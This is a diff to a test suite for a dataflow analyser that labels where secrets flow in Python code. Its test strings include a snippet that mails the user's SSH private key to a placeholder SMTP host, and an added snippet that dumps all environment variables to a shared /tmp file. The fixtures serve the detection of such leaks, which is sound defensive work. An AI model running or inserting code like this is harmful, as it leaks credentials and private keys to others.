@@ -314,6 +314,8 @@ describe('dataflow analysis', () => {
       assert.deepEqual(summary(await flowsOf('python', dotenv)).map((line) => line.split(' -> ')[1]), ['network']);
       const mail = "import smtplib, os\nfrom email.message import EmailMessage\nmsg = EmailMessage()\nwith open(os.path.expanduser('~/.ssh/id_rsa'), 'rb') as fh:\n    msg.add_attachment(fh.read(), maintype='application', subtype='octet-stream')\nwith smtplib.SMTP('smtp.c.example') as s:\n    s.send_message(msg)\n";
       assert.deepEqual(summary(await flowsOf('python', mail)), ['secret: the SSH private key -> mail']);
+      const dumped = "import os, json\njson.dump(dict(os.environ), open('/tmp/env.json', 'w'))\n";
+      assert.deepEqual(summary(await flowsOf('python', dumped)), ['secret: the whole environment -> shared-file']);
     });
   });
 });
